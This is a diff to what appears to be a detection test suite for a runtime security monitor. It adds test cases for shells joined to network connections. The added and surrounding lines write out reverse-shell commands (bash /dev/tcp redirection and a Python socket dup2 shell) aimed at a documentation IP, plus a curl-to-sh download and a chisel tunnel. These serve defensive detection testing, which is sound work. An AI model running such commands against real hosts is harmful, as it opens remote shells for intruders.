@@ -156,6 +156,14 @@ ln -s ..1/token /run/secrets/kubernetes.io/serviceaccount/token"""),
     Act("Download piped to an interpreter", "sh -c 'curl -s -m 1 http://127.0.0.1:1/x | sh'"),
     Act("Shell made a network connection",
         "serve 192.0.2.1 4444; bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'; kill $server"),
+    Act("Shell joined itself to a network connection",
+        "serve 192.0.2.1 4444; bash -c 'exec 0<>/dev/tcp/192.0.2.1/4444'; kill $server"),
+    Act("Shell started on a network connection", """serve 192.0.2.1 4444
+python3 -c "import os, socket
+peer = socket.create_connection(('192.0.2.1', 4444))
+for stream in range(3): os.dup2(peer.fileno(), stream)
+os.execv('/bin/sh', ['sh', '-c', ':'])"
+kill $server"""),
     Act("Program in a world-writable directory connected to the network",
         "dialler /tmp/x; serve 192.0.2.1 4444; /tmp/x -c 'exec 3<>/dev/tcp/192.0.2.1/4444'; kill $server"),
     Act("Tunnel or proxy tool started", "call chisel client 127.0.0.1:1 R:socks"),
